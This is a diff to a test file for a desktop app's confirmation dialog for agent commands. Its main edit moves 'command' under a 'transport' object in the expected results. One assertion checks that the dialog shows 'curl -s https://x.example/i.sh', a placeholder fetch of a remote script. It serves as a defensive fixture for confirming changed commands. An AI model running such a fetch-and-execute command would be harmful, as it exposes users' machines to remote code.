@@ -123,7 +123,10 @@ describe('the confirmation dialog of the desktop app', () => {
     const withCode = await fromWindow('agents.add', { name: 'Mine', command: 'mine', confirmationCode: 'ABC-DEF' })
     expect(withCode).toMatchObject({ ok: false, error: { code: 'confirmation_refused' } })
     electron.showMessageBox.mockResolvedValueOnce({ response: CONFIRM, checkboxChecked: false })
-    expect(await fromWindow('agents.add', { name: 'Mine', command: 'mine' })).toMatchObject({ ok: true, result: { id: 'mine', command: 'mine' } })
+    expect(await fromWindow('agents.add', { name: 'Mine', command: 'mine' })).toMatchObject({
+      ok: true,
+      result: { id: 'mine', transport: { kind: 'process', command: 'mine' } }
+    })
     expect(electron.showMessageBox).toHaveBeenCalledTimes(2)
   })
 
@@ -139,7 +142,10 @@ describe('the confirmation dialog of the desktop app', () => {
     expect(changed).toMatchObject({ ok: false, error: { code: 'confirmation_refused' } })
     expect(box(0)).toMatchObject({ message: 'Change what the agent “Renamed” runs?', buttons: ['Cancel', 'Save changes'] })
     expect(box(0).detail).toContain('  curl -s https://x.example/i.sh')
-    expect(await fromWindow('agents.list', {})).toMatchObject({ ok: true, result: [{ name: 'Renamed', command: 'mine', args: [] }] })
+    expect(await fromWindow('agents.list', {})).toMatchObject({
+      ok: true,
+      result: [{ name: 'Renamed', transport: { kind: 'process', command: 'mine', args: [] } }]
+    })
 
     electron.showMessageBox.mockResolvedValueOnce({ response: CANCEL, checkboxChecked: false })
     const server = await fromWindow('mcp.save', { name: 'files', transport: 'stdio', command: 'npx', args: ['-y', 'files-server'] })
